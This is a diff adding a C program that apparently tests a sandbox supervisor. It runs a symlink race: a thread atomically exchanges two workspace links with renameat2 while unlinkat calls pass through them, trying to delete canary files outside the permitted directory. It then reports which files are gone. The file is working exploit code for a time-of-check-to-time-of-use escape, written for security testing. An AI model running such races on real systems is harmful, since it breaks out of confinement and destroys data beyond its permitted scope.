@@ -1,0 +1,62 @@
+// attack: race: a thread swaps a workspace symlink (ws/l -> decoy dir / -> canary dir) while unlinking l/NAME
+// The supervisor resolves l/NAME once; the kernel walks l again afterwards. RENAME_EXCHANGE flips the
+// two links atomically, so at any instant l points at one directory or the other.
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <pthread.h>
+#include <stdatomic.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <time.h>
+#include <unistd.h>
+
+#ifndef RENAME_EXCHANGE
+#define RENAME_EXCHANGE 2
+#endif
+
+static atomic_int stop;
+static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }
+
+static void *flipper(void *arg) {
+    (void)arg;
+    while (!atomic_load(&stop)) syscall(SYS_renameat2, AT_FDCWD, "race-l", AT_FDCWD, "race-l2", RENAME_EXCHANGE);
+    return NULL;
+}
+
+int main(void) {
+    const char *canary = getenv("CANARY");
+    if (!canary) { fprintf(stderr, "CANARY not set\n"); return 2; }
+    mkdir("race-decoy", 0755);
+    mkdir("race-decoy/sub", 0755);
+    unlink("race-l"); unlink("race-l2");
+    printf("symlink race-l -> race-decoy: %d\n", symlink("race-decoy", "race-l"));
+    printf("symlink race-l2 -> %s: %d\n", canary, symlink(canary, "race-l2"));
+    pthread_t t;
+    pthread_create(&t, NULL, flipper, NULL);
+    const char *names[] = {"race-l/a", "race-l/b", "race-l/c", "race-l/sub/deep"};
+    long tries = 0, ok = 0, counts[256] = {0};
+    char cpath[4][4096];
+    for (int i = 0; i < 4; i++) snprintf(cpath[i], sizeof cpath[i], "%s/%s", canary, names[i] + 7);
+    double deadline = now() + 4.0;
+    while (now() < deadline) {
+        int gone = 0; struct stat st;
+        for (int i = 0; i < 4; i++) gone += lstat(cpath[i], &st) < 0;
+        if (gone == 4) break;
+        int i = (int)(tries % 4);
+        char decoy[64]; snprintf(decoy, sizeof decoy, "race-decoy/%s", names[i] + 7);
+        close(open(decoy, O_WRONLY | O_CREAT, 0644));
+        long rc = syscall(SYS_unlinkat, AT_FDCWD, names[i], 0);
+        tries++;
+        if (rc == 0) ok++; else counts[errno & 255]++;
+    }
+    atomic_store(&stop, 1);
+    pthread_join(t, NULL);
+    printf("unlink via a flipping symlink: %ld tries, %ld succeeded\n", tries, ok);
+    for (int e = 0; e < 256; e++) if (counts[e]) printf("  errno %d (%s): %ld\n", e, strerror(e), counts[e]);
+    for (int i = 0; i < 4; i++) { struct stat st; printf("%s: %s\n", cpath[i], lstat(cpath[i], &st) == 0 ? "still there" : "GONE"); }
+    return 0;
+}
